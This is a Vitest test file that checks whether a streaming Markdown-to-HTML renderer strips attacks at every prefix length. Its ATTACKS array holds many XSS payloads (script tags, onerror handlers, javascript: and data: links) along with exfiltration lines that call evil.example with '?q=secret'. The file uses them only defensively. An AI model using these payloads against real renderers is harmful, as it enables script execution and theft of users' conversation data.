import { expect, test } from 'vitest'
import { appendText, EMPTY_BLOCKS } from './blocks.ts'
import { finishedHtml, openHtml } from './testing/to-html.tsx'

/** Ways to run a script, or to carry the conversation out of the page. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<style>@import "https://evil.example/?q"</style><link rel=stylesheet href=https://evil.example>',
  '<base href="https://evil.example/"><form action="https://evil.example"><input name=q></form>',
  '<div style="background:url(https://evil.example/?q=secret)">x</div>',
  '<!-- --><math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1)) [x](java&#x0A;script:alert(1)) [x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1)) [x]( javascript:alert(1)) [x](javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1)) [x](file:///etc/passwd) [x](blob:https://a) [x](ftp://a/b)',
  '[x](//evil.example/?q=secret) [x](/trpc/runs.stop) [x](?a) [x](#root)',
  '<javascript:alert(1)> <data:text/html,x> <https://ok.example/>',
  '![secret](https://evil.example/?q=secret)',
  '![secret][late] [![x](https://evil.example/i.png)](javascript:alert(1))\n\n[late]: https://evil.example/?q=secret',
  '[a][late] [late]\n\n[late]: javascript:alert(1) "t\\" onclick=alert(1)"',
  '[x](https://ok.example "\\" onmouseover=alert(1) x=\\"")',
  '[^" onclick="alert(1)] [^x]\n\n[^" onclick="alert(1)]: note\n\n[^x]: <script>alert(1)</script>',
  '```html onload=alert(1)\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '| <img src=x onerror=alert(1)> | ![a](https://evil.example/i) |\n|---|---|\n| [x](javascript:alert(1)) | `<b>` |',
  '- [ ] <input onfocus=alert(1) autofocus>\n- [x](javascript:alert(1))',
  '$$<script>alert(1)</script>$$ \\[<img src=x>\\]',
  '`<script>`alert(1)`</script>`',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;',
  '# <script>alert(1)</script>\n\n> <script>alert(1)</script>',
  '[__proto__] [x][__proto__] [constructor][toString]\n\n[__proto__]: javascript:alert(1)',
] as const

const ELEMENTS = new Set(
  'a blockquote br code del div em h2 h3 h4 h5 h6 hr input li ol p pre span strong sup table tbody td th thead tr ul'.split(
    ' ',
  ),
)
const ATTRIBUTES = new Set(
  'href title target rel class colSpan start scope id type disabled checked role tabindex data-align data-depth'.split(
    ' ',
  ),
)

/** What an element of this answer does that none may do. */
function offences(html: string): string[] {
  const found: string[] = []
  for (const [, name = '', attributes = ''] of html.matchAll(/<([a-z][\w-]*)((?:[^>"]|"[^"]*")*)>/gi)) {
    if (!ELEMENTS.has(name)) found.push(`<${name}>`)
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([^\s=/]+)="([^"]*)"/g)) {
      if (!ATTRIBUTES.has(attribute) && !attribute.startsWith('aria-')) found.push(`${name} ${attribute}`)
      if (attribute !== 'href') continue
      if (/^#note-s-[^<>"'\s]*$/.test(value)) continue
      if (!/^(?:https?:\/\/|mailto:)/.test(value)) found.push(`${attribute}=${value}`)
    }
    if (
      name === 'a' &&
      !attributes.includes('href="#') &&
      !attributes.includes('rel="noopener noreferrer nofollow"')
    ) {
      found.push('a link that tells where it comes from')
    }
  }
  return found
}

test('the test detects an attack', () => {
  expect(offences('<img src="x">')).toEqual(['<img>', 'img src'])
  expect(offences('<a href="javascript:x">')).toHaveLength(2)
})

test.each(ATTACKS)('harmless at every length, growing or finished: %s', (attack) => {
  const before = 'Before it.\n\n'
  const text = `${before}${attack}\n\nAfter *it*.`
  for (let end = before.length + 1; end <= text.length; end++) {
    const blocks = appendText(EMPTY_BLOCKS, text.slice(0, end))
    expect(offences(openHtml(blocks)), text.slice(0, end)).toEqual([])
    expect(offences(finishedHtml(blocks)), text.slice(0, end)).toEqual([])
  }
  const alone = appendText(EMPTY_BLOCKS, attack)
  expect(offences(openHtml(alone))).toEqual([])
  expect(offences(finishedHtml(alone))).toEqual([])
})
